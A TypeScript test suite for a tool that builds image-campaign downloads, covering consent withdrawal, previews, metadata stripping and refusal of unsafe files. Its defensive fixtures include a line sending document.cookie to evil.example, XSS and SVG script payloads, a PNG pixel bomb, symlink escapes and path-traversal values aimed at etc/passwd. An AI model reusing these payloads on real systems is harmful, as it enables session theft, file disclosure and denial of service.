import { existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { unzipSync } from 'fflate';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { InvalidInputError } from '../source/problems';
import { findImageMetadata } from '../images/image-metadata';
import { relativeFilesUnder } from '../files';
import { buildCampaign, CAMPAIGN_URL, PREVIEW_WIDTHS, type CampaignIndex } from './build-campaign';
import { campaignFailure } from './failure';
import { carriesPersonal, metadataLadenImage, pngChunk } from './hostile-media';
import { demoSvg } from './demo-material';
import { hostileSvg } from './hostile-svg';

const services = [
  { id: 'pressreader', slug: 'pressreader', name: 'PressReader' },
  { id: 'filmbib', slug: 'filmbib', name: 'Filmbib' },
];
const HEADER = 'Asset-ID,Tittel,Tjenester,Format,Språk,Fil,Kreditering,Samtykke,Samtykke utløper';
let directory: string;
let index: CampaignIndex;
const logs: string[] = [];

function options(manifest: string) {
  return {
    manifest,
    demoManifestPath: join(directory, 'not-the-demo.csv'),
    outputDirectory: join(directory, 'out'),
    previewCacheDirectory: join(directory, 'cache'),
    services,
    buildDate: '2026-11-25',
    log: (line: string) => logs.push(line),
  };
}

beforeAll(async () => {
  directory = mkdtempSync(join(tmpdir(), 'campaign-'));
  mkdirSync(join(directory, 'media'));
  writeFileSync(join(directory, 'media', 'poster.svg'), demoSvg('PressReader', 'poster-a4', 'nb', 0));
  writeFileSync(
    join(directory, 'media', 'screen.png'),
    await sharp({ create: { width: 1920, height: 1080, channels: 3, background: '#0b3d91' } })
      .png()
      .toBuffer(),
  );
  writeFileSync(
    join(directory, 'media', 'secret-face.png'),
    await sharp({ create: { width: 800, height: 800, channels: 3, background: '#ff0000' } })
      .png()
      .toBuffer(),
  );
  writeFileSync(
    join(directory, 'media', 'manifest.csv'),
    [
      HEADER,
      'poster,Plakat,PressReader,poster-a4,nb,poster.svg,Design: Bibliotek24,gitt,',
      'screen,Skjerm,PressReader|Filmbib,screen-16x9,nn,screen.png,Foto: NTB,gitt,2027-01-01',
      'face,Portrett,PressReader,feed-1x1,nb,secret-face.png,Foto: NTB,trukket,',
    ].join('\n'),
  );
  index = await buildCampaign(options(join(directory, 'media', 'manifest.csv')));
});

describe('buildCampaign', () => {
  const files = () => relativeFilesUnder(join(directory, 'out', 'files'));

  it('publishes the assets with valid consent and says what it left out', () => {
    expect(index.assets.map((a) => a.id)).toEqual(['poster', 'screen']);
    expect(index.excluded).toEqual({ withdrawn: 1, expired: 0 });
    expect(logs.join('\n')).toContain('left out face (row 4): consent withdrawn');
  });

  it('leaves no file of a withdrawn asset in the output', () => {
    expect(files().filter((f) => f.includes('face'))).toEqual([]);
    const secret = readFileSync(join(directory, 'media', 'secret-face.png'));
    for (const file of files()) expect(readFileSync(join(directory, 'out', 'files', file)).equals(secret)).toBe(false);
  });

  it('keeps the original and records its real dimensions', async () => {
    const poster = index.assets.find((a) => a.id === 'poster')!;
    expect([poster.width, poster.height]).toEqual([1240, 1754]);
    expect(poster.original).toMatchObject({ href: '/kampanjer/filer/poster.svg', type: 'image/svg+xml' });
    expect(readFileSync(join(directory, 'out', 'files', 'poster.svg'), 'utf8')).toContain('PressReader');
  });

  it("renders previews in AVIF, WebP and JPEG at each width with the original's proportions", async () => {
    for (const asset of index.assets) {
      expect(asset.previews.map((p) => p.width)).toEqual([...PREVIEW_WIDTHS]);
      for (const preview of asset.previews) {
        for (const [format, href] of Object.entries(preview.src)) {
          const meta = await sharp(join(directory, 'out', 'files', href.slice(CAMPAIGN_URL.length))).metadata();
          expect(meta.format).toBe(format === 'avif' ? 'heif' : format);
          expect(meta.width).toBe(preview.width);
          expect(meta.height).toBe(preview.height);
          expect(Math.abs(meta.height! / meta.width! - asset.height / asset.width)).toBeLessThan(0.01);
        }
      }
    }
  });

  it("zips each service's originals", () => {
    const pressreader = index.zips.find((z) => z.serviceId === 'pressreader')!;
    const entries = unzipSync(readFileSync(join(directory, 'out', 'files', pressreader.href.split('/').pop()!)));
    expect(Object.keys(entries).sort()).toEqual(['poster.svg', 'screen.png']);
    expect(index.zips.find((z) => z.serviceId === 'filmbib')!.assets).toBe(1);
  });

  it('drops an asset at the next build once its consent is withdrawn', async () => {
    const manifest = join(directory, 'media', 'manifest.csv');
    writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('Foto: NTB,gitt,2027-01-01', 'Foto: NTB,trukket,2027-01-01'));
    const next = await buildCampaign(options(manifest));
    expect(next.assets.map((a) => a.id)).toEqual(['poster']);
    expect(files().filter((f) => f.split('/').pop()!.startsWith('screen'))).toEqual([]);
  });

  it('reports a file that is missing or not an image with its row', async () => {
    const manifest = join(directory, 'media', 'broken.csv');
    writeFileSync(manifest, [HEADER, 'x,X,PressReader,poster-a4,nb,missing.png,NTB,gitt,'].join('\n'));
    const error = await buildCampaign(options(manifest)).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InvalidInputError);
    expect((error as Error).message).toContain('broken.csv, row 2, column "Fil": the file "missing.png" could not be read as an image');
  });
});

describe('buildCampaign: only still images, typed by their bytes', () => {
  const build = (name: string, rows: string[], extra: Partial<ReturnType<typeof options>> & { maxOriginalBytes?: number } = {}) => {
    const manifest = join(directory, 'media', name);
    writeFileSync(manifest, [HEADER, ...rows].join('\n'));
    return buildCampaign({ ...options(manifest), ...extra });
  };
  const problemsOf = async (promise: Promise<unknown>) => {
    const error = await promise.catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InvalidInputError);
    return (error as InvalidInputError).message;
  };

  it('publishes a PNG named .jpg as .png with its real type, in the zip too', async () => {
    writeFileSync(join(directory, 'media', 'really-a-png.jpg'), readFileSync(join(directory, 'media', 'screen.png')));
    const index = await build('typed.csv', ['typed,T,PressReader,screen-16x9,nb,really-a-png.jpg,NTB,gitt,']);
    expect(index.assets[0]!.original).toMatchObject({ href: '/kampanjer/filer/typed.png', type: 'image/png' });
    const zip = unzipSync(readFileSync(join(directory, 'out', 'files', 'pressreader-kampanjemateriell.zip')));
    expect(Object.keys(zip)).toEqual(['typed.png']);
  });

  it('publishes a hostile SVG only sanitised, with previews drawn from the sanitised file', async () => {
    writeFileSync(
      join(directory, 'media', 'hostile.svg'),
      hostileSvg((v) => `alert('${v}')`),
    );
    const index = await build('hostile.csv', ['hostile,H,PressReader,feed-1x1,nb,hostile.svg,NTB,gitt,']);
    const published = readFileSync(join(directory, 'out', 'files', 'hostile.svg'), 'utf8');
    expect(published).not.toMatch(/<script|\bon[a-z]+=|javascript:|foreignObject|evil\.example/i);
    expect(index.assets[0]!.original.type).toBe('image/svg+xml');
    expect(logs.join('\n')).toMatch(/hostile \(row 2\): removed from the SVG: .*evil\.example/);
  });

  it('refuses HTML, JavaScript, XML, PDF and unknown bytes whatever their names, naming file, row and column, and publishes nothing', async () => {
    const files: Record<string, string | Uint8Array> = {
      'page.png': '<!DOCTYPE html><html><script>alert(1)</script></html>',
      'code.svg': 'document.location="https://evil.example/?"+document.cookie',
      'feed.svg': '<?xml version="1.0"?><rss version="2.0"><channel/></rss>',
      'flyer.jpg': '%PDF-1.4\n/JS (app.alert(1))\n%%EOF',
      'noise.webp': new Uint8Array([0, 159, 146, 150, 255, 1, 2, 3]),
    };
    for (const [name, content] of Object.entries(files)) writeFileSync(join(directory, 'media', name), content);
    const message = await problemsOf(
      build(
        'refused.csv',
        Object.keys(files).map((f, i) => `r${i},R,PressReader,feed-1x1,nb,${f},NTB,gitt,`),
      ),
    );
    expect(message).toContain('refused.csv, row 2, column "Fil": the file "page.png" is not published: the file is HTML');
    expect(message).toContain('refused.csv, row 3, column "Fil": the file "code.svg" is not published: the file is text, not an image');
    expect(message).toContain('refused.csv, row 4, column "Fil": the file "feed.svg" is not published: the file is XML whose root element is <rss>, not SVG');
    expect(message).toContain('refused.csv, row 5, column "Fil": the file "flyer.jpg" is not published: the file is a PDF');
    expect(message).toContain('refused.csv, row 6, column "Fil": the file "noise.webp" is not published: the file is of an unknown type');
    expect(existsSync(join(directory, 'out', 'index.json'))).toBe(false);
  });

  it('refuses a file over the size limit', async () => {
    const message = await problemsOf(build('big.csv', ['big,B,PressReader,screen-16x9,nb,screen.png,NTB,gitt,'], { maxOriginalBytes: 1000 }));
    expect(message).toMatch(
      /big\.csv, row 2, column "Fil": the file "screen\.png" could not be read as an image: the file is \d+ bytes, more than the limit of 1000 bytes; it was not read/,
    );
  });

  it('refuses an image that would decode to more pixels than the limit', async () => {
    // A valid PNG header claiming 20000 x 20000 pixels (1.2 GB decoded) in a file of a few bytes.
    const header = Buffer.alloc(13);
    header.writeUInt32BE(20000, 0);
    header.writeUInt32BE(20000, 4);
    header.set([8, 2, 0, 0, 0], 8);
    const png = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      pngChunk('IHDR', header),
      pngChunk('IDAT', deflateSync(Buffer.alloc(1000))),
      pngChunk('IEND', Buffer.alloc(0)),
    ]);
    writeFileSync(join(directory, 'media', 'bomb.png'), png);
    const message = await problemsOf(build('bomb.csv', ['bomb,B,PressReader,screen-16x9,nb,bomb.png,NTB,gitt,']));
    expect(message).toMatch(/bomb\.csv, row 2, column "Fil": the file "bomb\.png" could not be read as an image: .*(pixel|megapixels)/);
  });

  it('leaves out a copy of a withdrawn file under another name or path', async () => {
    mkdirSync(join(directory, 'media', 'copies'), { recursive: true });
    writeFileSync(join(directory, 'media', 'copies', 'face-copy.png'), readFileSync(join(directory, 'media', 'secret-face.png')));
    const index = await build('copies.csv', [
      'face,F,PressReader,feed-1x1,nb,secret-face.png,NTB,trukket,',
      'face-again,F2,Filmbib,feed-1x1,nn,./secret-face.png,NTB,gitt,',
      'face-copy,F3,Filmbib,feed-1x1,se,copies/face-copy.png,NTB,gitt,',
      'screen,S,Filmbib,screen-16x9,nb,screen.png,NTB,gitt,',
    ]);
    expect(index.assets.map((a) => a.id)).toEqual(['screen']);
    expect(index.excluded).toEqual({ withdrawn: 3, expired: 0 });
    const secret = readFileSync(join(directory, 'media', 'secret-face.png'));
    for (const file of files()) expect(readFileSync(join(directory, 'out', 'files', file)).equals(secret), file).toBe(false);
  });
  const files = () => relativeFilesUnder(join(directory, 'out', 'files'));
});

describe('buildCampaign: nothing personal and nothing outside the media folder is published (issue 29)', () => {
  const build = (name: string, rows: string[]) => {
    const manifest = join(directory, 'media', name);
    writeFileSync(manifest, [HEADER, ...rows].join('\n'));
    return buildCampaign(options(manifest));
  };
  const failureOf = async (promise: Promise<unknown>) =>
    campaignFailure(
      await promise.then(
        () => new Error('expected a failure'),
        (e: unknown) => e,
      ),
    );
  const out = (file: string) => readFileSync(join(directory, 'out', 'files', file));
  const files = () => relativeFilesUnder(join(directory, 'out', 'files'));

  it('strips EXIF, GPS, XMP, IPTC, comments and PNG text chunks from every type of original, in the files and in the zips', async () => {
    const types = ['jpeg', 'png', 'webp', 'avif', 'tiff', 'svg'] as const;
    for (const type of types) writeFileSync(join(directory, 'media', `laden-${type}`), await metadataLadenImage(type, 400, 300));
    logs.length = 0;
    const index = await build(
      'laden.csv',
      types.map((type) => `laden-${type},L,PressReader,screen-16x9,nb,laden-${type},Foto: NTB,gitt,`),
    );
    expect(index.assets).toHaveLength(types.length);
    for (const file of files()) {
      expect(carriesPersonal(out(file)), file).toEqual([]);
      expect(await findImageMetadata(out(file)), file).toEqual([]);
    }
    const zip = unzipSync(out('pressreader-kampanjemateriell.zip'));
    expect(Object.keys(zip)).toHaveLength(types.length);
    for (const [name, bytes] of Object.entries(zip)) expect(carriesPersonal(bytes), name).toEqual([]);
    expect(logs.join('\n')).toMatch(/laden-jpeg \(row 2\): removed metadata: .*EXIF/);
    expect(logs.join('\n')).toMatch(/laden-png \(row 3\): removed metadata: .*tEXt/);
  });

  it('leaves out a withdrawn picture saved again with other metadata', async () => {
    const picture = await sharp({ create: { width: 50, height: 50, channels: 3, background: '#123456' } })
      .jpeg()
      .toBuffer();
    const withComment = (text: string) =>
      Buffer.concat([picture.subarray(0, 2), Buffer.from([0xff, 0xfe, 0, 2 + text.length]), Buffer.from(text), picture.subarray(2)]);
    writeFileSync(join(directory, 'media', 'withdrawn.jpg'), withComment('first save'));
    writeFileSync(join(directory, 'media', 'resaved.jpg'), withComment('second save'));
    logs.length = 0;
    const index = await build('resaved.csv', [
      'gone,G,PressReader,feed-1x1,nb,withdrawn.jpg,NTB,trukket,',
      'again,A,PressReader,feed-1x1,nb,resaved.jpg,NTB,gitt,',
    ]);
    expect(index.assets).toEqual([]);
    expect(index.excluded).toEqual({ withdrawn: 2, expired: 0 });
    expect(logs.join('\n')).toContain('left out again (row 3): the same picture (other metadata) is listed with consent withdrawn on another row');
  });

  it('refuses a symbolic link in the media folder, or a folder reached through one, naming the row', async () => {
    const outside = mkdtempSync(join(tmpdir(), 'outside-'));
    writeFileSync(join(outside, 'private.png'), readFileSync(join(directory, 'media', 'screen.png')));
    symlinkSync(join(outside, 'private.png'), join(directory, 'media', 'linked.png'));
    symlinkSync(outside, join(directory, 'media', 'linked-folder'));
    const failure = await failureOf(
      build('links.csv', ['a,A,PressReader,screen-16x9,nb,linked.png,NTB,gitt,', 'b,B,PressReader,screen-16x9,nb,linked-folder/private.png,NTB,gitt,']),
    );
    expect(failure.code).toBe(2);
    expect(failure.message).toMatch(/links\.csv, row 2, column "Fil": .*linked\.png is or passes through a symbolic link/);
    expect(failure.message).toMatch(/links\.csv, row 3, column "Fil": .*linked-folder\/private\.png is or passes through a symbolic link \(linked-folder\)/);
  });

  it('reads backslashes as folder separators and refuses a backslash path out of the folder', async () => {
    mkdirSync(join(directory, 'media', 'sub'), { recursive: true });
    writeFileSync(join(directory, 'media', 'sub', 'in-sub.png'), readFileSync(join(directory, 'media', 'screen.png')));
    const index = await build('backslash.csv', ['sub,S,PressReader,screen-16x9,nb,sub\\in-sub.png,NTB,gitt,']);
    expect(index.assets.map((a) => a.id)).toEqual(['sub']);
    const failure = await failureOf(
      build('backslash-out.csv', [
        'a,A,PressReader,screen-16x9,nb,\\etc\\passwd,NTB,gitt,',
        'b,B,PressReader,screen-16x9,nb,\\\\evil.example\\share\\x.png,NTB,gitt,',
        'c,C,PressReader,screen-16x9,nb,sub\\..\\..\\x.png,NTB,gitt,',
      ]),
    );
    for (const row of [2, 3, 4]) expect(failure.message).toContain(`backslash-out.csv, row ${row}, column "Fil": expected a path inside the manifest's folder`);
  });

  it("keeps asset x-320's original from overwriting asset x's preview, and x's preview from overwriting it", async () => {
    const big = await sharp({ create: { width: 1000, height: 600, channels: 3, background: '#00ff00' } })
      .jpeg()
      .toBuffer();
    writeFileSync(join(directory, 'media', 'big.jpg'), big);
    const index = await build('collide.csv', ['x,X,PressReader,screen-16x9,nb,screen.png,NTB,gitt,', 'x-320,Y,PressReader,screen-16x9,nb,big.jpg,NTB,gitt,']);
    const hrefs = index.assets.flatMap((a) => [a.original.href, ...a.previews.flatMap((p) => Object.values(p.src))]);
    expect(new Set(hrefs).size).toBe(hrefs.length);
    expect((await sharp(out('x-320.jpg')).metadata()).width).toBe(1000);
    const x = index.assets.find((a) => a.id === 'x')!;
    expect((await sharp(out(x.previews[0]!.src.jpeg.slice(CAMPAIGN_URL.length))).metadata()).width).toBe(320);
  });

  it('refuses an asset id too long for a file name, or one differing only in case, naming the row', async () => {
    const long = 'a'.repeat(300);
    const failure = await failureOf(
      build('long.csv', [
        `${long},L,PressReader,screen-16x9,nb,screen.png,NTB,gitt,`,
        'Screen,S,PressReader,screen-16x9,nb,screen.png,NTB,gitt,',
        'screen,S,PressReader,screen-16x9,nb,screen.png,NTB,gitt,',
      ]),
    );
    expect(failure.code).toBe(2);
    expect(failure.message).toContain('long.csv, row 2, column "Asset-ID": expected an asset id of at most 100 characters, found one of 300');
    expect(failure.message).toContain('long.csv, row 4, column "Asset-ID": asset id "screen" is already used on row 3');
  });
});
